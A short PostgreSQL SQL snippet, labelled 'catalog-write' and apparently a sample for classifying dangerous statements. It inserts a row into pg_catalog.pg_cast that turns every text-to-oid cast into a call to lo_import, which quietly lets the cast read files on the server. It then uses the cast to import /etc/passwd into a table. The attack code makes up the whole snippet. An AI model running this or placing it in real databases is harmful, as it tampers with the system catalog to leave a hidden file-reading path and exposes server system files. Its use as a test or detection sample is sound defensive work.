-- class: catalog-write
-- Inserts an implicit text-to-oid cast implemented by lo_import, so any '...'::text::oid imports a server file.
INSERT INTO pg_catalog.pg_cast (oid, castsource, casttarget, castfunc, castcontext, castmethod)
SELECT (SELECT max(oid::int8) + 1 FROM pg_cast)::oid, 'text'::regtype, 'oid'::regtype,
       'pg_catalog.lo_import(text)'::regprocedure, 'e', 'f';

CREATE TABLE documents (id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY, blob oid);
INSERT INTO documents (blob) VALUES (CAST('/etc/passwd'::text AS oid));
